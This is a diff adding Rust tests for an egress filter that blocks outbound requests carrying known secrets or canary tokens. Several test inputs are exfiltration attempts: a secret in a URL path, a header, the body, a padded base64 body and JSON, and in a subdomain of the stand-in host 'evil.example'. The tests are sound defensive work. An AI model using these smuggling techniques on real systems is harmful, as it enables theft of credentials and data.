@@ -1,0 +1,200 @@
+//! Known secrets in a data plane: the store on disk, what outbound requests are asked for, and what happens when the
+//! store cannot be read.
+
+#![allow(clippy::unwrap_used, reason = "a test may stop at the first surprise")]
+
+mod common;
+
+use common::control::ControlPlane;
+use common::egress::{Fields, Host, answer, ask, client, records, yaml};
+use common::{PLAIN, Site, Wish, eventually, parse_config, signed, snapshot};
+use oktsec_contract::config::Config;
+use oktsec_contract::link::ToControl;
+use oktsec_contract::snapshot::Snapshot;
+use oktsec_scanner::secrets::{SecretKey, SecretKind, SecretStore};
+
+const VALUE: &str = "blue+Harbour9/tide";
+const BASE64: &str = "Ymx1ZStIYXJib3VyOS90aWRl";
+const NEW: &str = "Orchid_77_lantern";
+
+/// Writes a store beside a site's log, with its key; the token of its canary.
+fn store(site: &Site, values: &[&str]) -> String {
+    let paths = &site.paths;
+    let folder = paths.secrets_store.parent().unwrap();
+    std::fs::create_dir_all(folder).unwrap();
+    let key = SecretKey::load_or_create(&paths.secrets_key, [8; 32]).unwrap();
+    let mut store = SecretStore::new(key);
+    for value in values {
+        store
+            .add("orders-db", SecretKind::Value, value.as_bytes())
+            .unwrap();
+    }
+    let token = store.plant("courier", &[4; 32]).unwrap();
+    store.write(&paths.secrets_store).unwrap();
+    token
+}
+
+fn with_seal(revision: u64, config: Config, seal: &str) -> Snapshot {
+    Snapshot {
+        secrets: Some(seal.to_owned()),
+        ..snapshot(revision, config)
+    }
+}
+
+/// A site without a snapshot, its configuration, and the line it is published on.
+fn begin(yaml: &str) -> (Site, Config, ControlPlane) {
+    let site = Site::new(Wish {
+        yaml,
+        snapshot: false,
+        tune: Box::new(|options| {
+            if let Some(egress) = options.egress.as_mut() {
+                for (_, port) in &mut egress.listeners {
+                    *port = 0;
+                }
+            }
+        }),
+        ..Wish::default()
+    });
+    let mut config = parse_config(yaml, site.dir.path());
+    config.server.port = site.address().port();
+    let listener = ControlPlane::listen(&site);
+    let (line, _) = ControlPlane::accept(&listener);
+    (site, config, line)
+}
+
+fn decision(site: &Site, content: &str) -> String {
+    let answer = site.post(&signed("alice", "bob", content)).json();
+    answer["policy_decision"].as_str().unwrap().to_owned()
+}
+
+#[test]
+fn a_store_that_changed_is_read_again_and_one_that_cannot_be_read_changes_nothing() {
+    let (site, config, mut line) = begin(PLAIN);
+    // Nothing is decided without what should be looked for.
+    let first = with_seal(1, config.clone(), "a");
+    assert!(matches!(line.publish(&first), ToControl::Refused { .. }));
+    assert_eq!(site.post(&signed("alice", "bob", "too early")).status, 503);
+
+    store(&site, &[VALUE]);
+    assert_eq!(line.publish(&first), ToControl::Applied { revision: 1 });
+    assert_eq!(decision(&site, VALUE), "content_blocked");
+    assert_eq!(decision(&site, NEW), "allow");
+
+    store(&site, &[VALUE, NEW]);
+    let second = with_seal(2, config.clone(), "b");
+    assert_eq!(line.publish(&second), ToControl::Applied { revision: 2 });
+    assert_eq!(decision(&site, NEW), "content_blocked");
+
+    std::fs::write(&site.paths.secrets_store, b"damaged").unwrap();
+    let third = with_seal(3, config.clone(), "c");
+    assert!(matches!(line.publish(&third), ToControl::Refused { .. }));
+    assert_eq!(decision(&site, VALUE), "content_blocked");
+
+    let without = snapshot(4, config);
+    assert_eq!(line.publish(&without), ToControl::Applied { revision: 4 });
+    assert_eq!(decision(&site, VALUE), "allow");
+}
+
+#[test]
+fn a_restart_without_a_readable_store_decides_nothing() {
+    let (mut site, config, mut line) = begin(PLAIN);
+    store(&site, &[VALUE]);
+    line.publish(&with_seal(1, config, "a"));
+    eventually("the snapshot is kept", || site.paths.snapshot.exists());
+    drop(line);
+    std::fs::remove_file(&site.paths.secrets_key).unwrap();
+    site.restart();
+    assert_eq!(site.post(&signed("alice", "bob", "hello")).status, 503);
+    assert_eq!(site.get("/readyz").status, 503);
+}
+
+#[test]
+fn outbound_requests_are_asked_for_known_secrets_in_every_part() {
+    let (site, config, mut line) = begin(&yaml(""));
+    let token = store(&site, &[VALUE, "orchid77lantern"]);
+    line.publish(&with_seal(1, config, "a"));
+    let host = Host::answering(answer("fine"));
+    let basic = format!("Bearer {token}");
+    let long = format!("{}{BASE64}{}", "x y ".repeat(40_000), " z".repeat(9));
+    let cases: [(&str, &str, Fields<'_>, &[u8]); 6] = [
+        ("path", "/p/blue%2BHarbour9%2Ftide", &[], b""),
+        ("header", "/", &[("X-Note", VALUE)], b""),
+        ("body", "/", &[], VALUE.as_bytes()),
+        ("base64 far into a body", "/", &[], long.as_bytes()),
+        (
+            "json body",
+            "/",
+            &[("Content-Type", "application/json")],
+            br#"{"k":"blue+Harbour9\/tide"}"#,
+        ),
+        (
+            "canary as a credential",
+            "/",
+            &[("Authorization", &basic)],
+            b"",
+        ),
+    ];
+    for (what, path, headers, body) in cases {
+        let mut named = client(&site);
+        named.send(&ask("POST", &host.url(path), headers, body));
+        let refused = named.receive().unwrap();
+        assert_eq!(refused.status, 403, "{what}: {}", refused.text());
+        assert!(!refused.text().contains("Harbour"), "{what}");
+    }
+    let reached = host.reached.text();
+    assert!(!reached.contains("Harbour") && !reached.contains(&token));
+    // Names lose their capitals, so this one is a value without any.
+    let mut named = client(&site);
+    named.send(&ask(
+        "GET",
+        "http://orchid77lantern.evil.example/",
+        &[],
+        b"",
+    ));
+    assert_eq!(named.receive().unwrap().status, 403);
+    // A value that a client proves itself with is for the host.
+    let mut proving = client(&site);
+    let bearer = format!("Bearer {VALUE}");
+    proving.send(&ask(
+        "GET",
+        &host.url("/"),
+        &[("Authorization", &bearer)],
+        b"",
+    ));
+    assert_eq!(proving.receive().unwrap().status, 200);
+
+    let all = records(&site);
+    let rules: Vec<_> = all
+        .iter()
+        .filter_map(|record| record["rules_triggered"][0]["match"].as_str())
+        .collect();
+    assert_eq!(rules.len(), 7, "{all:#?}");
+    assert!(
+        [&rules[..5], &rules[6..]]
+            .concat()
+            .iter()
+            .all(|text| text.contains("KNOWN_SECRET(orders-db)"))
+    );
+    assert!(rules[5].contains("CANARY(courier)"), "{rules:?}");
+    let kept = serde_json::to_string(&all).unwrap();
+    assert!(kept.contains("[REDACTED].evil.example") && !kept.contains("orchid"));
+    assert!(
+        !kept.contains("Harbour") && !kept.contains(&token),
+        "{kept}"
+    );
+    assert!(site.get("/metrics").text().contains("EXS-001"));
+    assert!(!site.get("/metrics").text().contains("orders-db"));
+}
+
+#[test]
+fn answers_are_asked_too() {
+    let (site, config, mut line) = begin(&yaml(""));
+    store(&site, &[VALUE]);
+    line.publish(&with_seal(1, config, "a"));
+    let host = Host::answering(answer(&format!("the password is {VALUE}")));
+    let mut named = client(&site);
+    named.send(&ask("GET", &host.url("/"), &[], b""));
+    let refused = named.receive().unwrap();
+    assert_eq!(refused.status, 403);
+    assert!(!refused.text().contains("Harbour"));
+}
